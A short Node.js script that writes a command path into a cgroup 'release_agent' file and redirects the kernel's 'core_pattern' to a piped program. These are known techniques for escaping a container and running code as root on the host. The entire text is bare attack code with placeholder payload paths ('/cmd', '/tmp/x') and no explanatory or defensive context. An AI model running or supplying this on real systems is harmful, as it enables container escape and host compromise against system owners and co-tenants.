const fs = require('fs');
fs.writeFileSync('/tmp/cg/release_agent', '/cmd');
fs.writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/x');
console.log('x');
